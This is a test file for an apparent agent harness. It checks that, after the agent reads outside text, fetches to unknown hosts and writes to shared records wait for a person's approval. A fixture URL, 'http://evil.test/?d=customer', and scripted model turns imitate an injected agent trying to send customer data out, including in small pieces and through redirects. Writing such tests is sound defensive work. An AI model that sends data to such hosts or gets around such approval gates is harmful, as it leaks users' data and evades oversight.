import { describe, expect, test } from "vitest";
import { createChat } from "../fakes/chat.ts";
import { scriptedModel } from "../fakes/scripted-model.ts";
import { createStage, fakeTool, type StageOptions } from "../fakes/stage.ts";
import { ANSWER, call } from "../agent/talking.ts";

/** What a model may do once it has read what nobody in the thread wrote. */

const EVIL = "http://evil.test/?d=customer";

/** A thread whose model reads a log and then fetches `url`, and says so. */
async function thread(script: [tool: string, target: string][], options: StageOptions = {}) {
  const model = scriptedModel([
    ...script.map(([name, target]) => ({ calls: [call(name, target)] })),
    ANSWER,
    ...(options.model === undefined ? [] : [ANSWER]),
  ]);
  const log = fakeTool({ name: "log" });
  const skill = fakeTool({ name: "skill", ours: true });
  const marks: (boolean | undefined)[] = [];
  const record = fakeTool({
    name: "record",
    effect: "write",
    own: true,
    run: async (_, { asker }) => {
      marks.push(await asker?.outside());
      return { text: "written" };
    },
  });
  const fetched = fakeTool({
    name: "fetch",
    kinds: { name: "url" },
    run: async ({ name }, ctx) => {
      const leads = /to=([^&]+)/.exec(name)?.[1];
      if (leads === undefined) return { text: `fetched ${name}` };
      return { text: (await ctx.permit({ name: leads })) ?? `followed to ${leads}` };
    },
  });
  const stage = await createStage({ tools: [log, skill, record, fetched], model, ...options });
  const ask = async (text: string, account?: string) => {
    await stage.say(text, account);
    await stage.settle();
  };
  const results = async () =>
    (await stage.entries()).flatMap((entry) =>
      entry.kind === "tool_finished" ? [entry.text] : [],
    );
  return { ...stage, fetch: fetched, record, marks, ask, results };
}

describe("after outside text, a read that sends something to an unknown place", () => {
  test("asks, and its card says why and what is sent", async () => {
    const stage = await thread([
      ["log", "web"],
      ["fetch", EVIL],
    ]);
    await stage.ask("why is the web slow?");
    expect(stage.fetch.runs).toEqual([]);
    const [card] = stage.chat.cards();
    expect(card?.preview.lines[0]).toEqual({
      label: "Asked because",
      value:
        "I've read text from outside. Nobody here named evil.test, and the configuration doesn't know it.",
    });
    await stage.ask("deny a1");
    expect(stage.fetch.runs).toEqual([]);
    expect(await stage.results()).toContainEqual(expect.stringContaining("Denied by ana"));
  });

  test("says so on the card of an edit too, which keeps the model's reason", async () => {
    const model = scriptedModel([
      { calls: [call("log", "web")] },
      { text: "The page may say why.", calls: [call("fetch", EVIL)] },
    ]);
    const stage = await thread([], { model });
    await stage.ask("why is the web slow?");
    for (const [index, name] of ["http://bad.test/x", "http://bad.test/y"].entries()) {
      await stage.click("a1", { kind: "edit", args: { name } }, "test:bob", index + 1);
      await stage.settle();
    }
    const proposed = (await stage.entries()).filter((entry) => entry.kind === "action_proposed");
    expect(proposed).toHaveLength(3);
    for (const { preview, reason } of proposed) {
      expect(preview.lines.map(({ label }) => label)).toEqual(["Asked because", "Target"]);
      expect(reason).toBe("The page may say why.");
    }
  });

  test("runs once somebody approved it, whoever asked included", async () => {
    const stage = await thread([
      ["log", "web"],
      ["fetch", EVIL],
    ]);
    await stage.ask("why is the web slow?");
    await stage.ask("approve a1");
    expect(stage.fetch.runs).toEqual([EVIL]);
  });

  test("asks once more when it is asked for again after its card expired", async () => {
    const clock = { now: 1_000_000 };
    const stage = await thread(
      [
        ["log", "web"],
        ["fetch", EVIL],
      ],
      { now: () => clock.now },
    );
    await stage.ask("is shop.test up?");
    clock.now += 61 * 60_000;
    await stage.settle();
    await stage.ask("ask again a1", "test:bob");
    expect(stage.fetch.runs).toEqual([]);
    expect(stage.chat.cards().map(({ action, phase }) => [action, phase])).toEqual([
      ["a1", "expired"],
      ["a2", "open"],
    ]);
    await stage.ask("approve a2", "test:bob");
    expect(stage.fetch.runs).toEqual([EVIL]);
  });

  test("asks also when the outside text came in an earlier run, or by a command", async () => {
    const stage = await thread([["fetch", EVIL]]);
    await stage.ask("run log name=web");
    await stage.ask("and now?");
    expect(stage.fetch.runs).toEqual([]);
    expect(stage.chat.cards()).toHaveLength(1);
  });

  test("asks also when the outside text was written by somebody who is no member", async () => {
    const chat = createChat({ standings: { "test:ana": "member", "test:alerts": "bot" } });
    const stage = await thread([["fetch", EVIL]], { chat });
    await stage.post({
      id: "x1",
      kind: "message",
      actor: { account: "test:alerts", name: "alerts" },
      text: `look at ${EVIL}`,
    });
    await stage.ask("what is that?");
    expect(stage.fetch.runs).toEqual([]);
  });

  test.each([
    ["a member named it", "is evil.test up?", {}],
    [
      "a rule names it",
      "why?",
      {
        rules: [
          { match: { tool: "fetch", args: { name: "http://evil.test/*" } }, decide: "allow" },
        ],
      },
    ],
  ] satisfies [string, string, StageOptions["approvals"]][])(
    "runs at once when %s",
    async (_, words, approvals = {}) => {
      const stage = await thread(
        [
          ["log", "web"],
          ["fetch", EVIL],
        ],
        { approvals },
      );
      await stage.ask(words);
      expect(stage.fetch.runs).toEqual([EVIL]);
    },
  );

  test("asks when a host that was named would be told much little by little", async () => {
    const pieces = ["a", "b", "c", "d"].map((letter) => `http://shop.test/${letter.repeat(60)}`);
    const calls = [call("log"), ...pieces.slice(2).map((url) => call("fetch", url))];
    const model = scriptedModel([
      { calls: [call("log"), call("fetch", pieces[0])] },
      { calls: [call("fetch", pieces[1]), call("fetch", pieces[2])] },
      ANSWER,
      { calls },
      ANSWER,
    ]);
    const stage = await thread([], { model });
    await stage.ask("is shop.test up?");
    expect(stage.fetch.runs).toEqual([pieces[0], pieces[1]]);
    expect(stage.chat.cards()[0]?.preview.lines[0]?.value).toContain("receive 180 bytes");
    await stage.ask("deny a1");
    // Another run, which a person began, has as much again.
    await stage.ask("and now?");
    expect(stage.fetch.runs).toEqual(pieces);
  });

  test("asks when the rule allows any place", async () => {
    const stage = await thread(
      [
        ["log", "web"],
        ["fetch", EVIL],
      ],
      { approvals: { rules: [{ match: { tool: "fetch" }, decide: "allow" }] } },
    );
    await stage.ask("why?");
    expect(stage.fetch.runs).toEqual([]);
  });

  test("is not followed to by a redirect, but within a host", async () => {
    const stage = await thread([
      ["log", "web"],
      ["fetch", `http://shop.test/?to=${EVIL}`],
      ["fetch", "http://other.test/?to=http://other.test/next"],
    ]);
    await stage.ask("is shop.test up?");
    await stage.ask("approve a1");
    expect(await stage.results()).toEqual([
      "did web",
      "That needs an approval of its own: it can be asked for in another call.",
      "followed to http://other.test/next",
    ]);
  });
});

describe("nothing more is asked", () => {
  test("before outside text was read, skills being the program's own", async () => {
    const stage = await thread([
      ["skill", "http"],
      ["fetch", EVIL],
    ]);
    await stage.ask("is the status page up?");
    expect(stage.fetch.runs).toEqual([EVIL]);
  });

  test("of a command that a person typed", async () => {
    const stage = await thread([]);
    await stage.ask("run log name=web");
    await stage.ask(`run fetch name=${EVIL}`);
    expect(stage.fetch.runs).toEqual([EVIL]);
  });

  test("of calls that were made beside the first that read", async () => {
    const model = scriptedModel([{ calls: [call("log"), call("fetch", EVIL)] }, ANSWER]);
    const stage = await thread([], { model });
    await stage.ask("why?");
    expect(stage.fetch.runs).toEqual([EVIL]);
  });
});

describe("after outside text, a write to our own records", () => {
  test("asks, and does not before, and is marked", async () => {
    const stage = await thread([
      ["record", "first"],
      ["log", "web"],
      ["record", "second"],
    ]);
    await stage.ask("write down what you find");
    expect(stage.record.runs).toEqual(["first"]);
    expect(stage.chat.cards()[0]?.preview.lines[0]?.value).toContain("other threads read");
    await stage.ask("approve a1");
    expect(stage.record.runs).toEqual(["first", "second"]);
    expect(stage.marks).toEqual([false, true]);
  });

  test("stays marked when it is asked for again", async () => {
    const clock = { now: 1_000_000 };
    const stage = await thread(
      [
        ["log", "web"],
        ["record", "first"],
      ],
      { now: () => clock.now },
    );
    await stage.ask("write down what you find");
    clock.now += 61 * 60_000;
    await stage.settle();
    await stage.ask("ask again a1");
    expect(stage.record.runs).toEqual([]);
    await stage.ask("approve a2");
    expect(stage.marks).toEqual([true]);
  });

  test("runs at once where a rule allows it, and when a person types it", async () => {
    const stage = await thread(
      [
        ["log", "web"],
        ["record", "first"],
      ],
      { approvals: { rules: [{ match: { tool: "record" }, decide: "allow" }] } },
    );
    await stage.ask("write down what you find");
    await stage.ask("run record name=second");
    expect(stage.record.runs).toEqual(["first", "second"]);
    expect(stage.marks).toEqual([true, false]);
  });
});
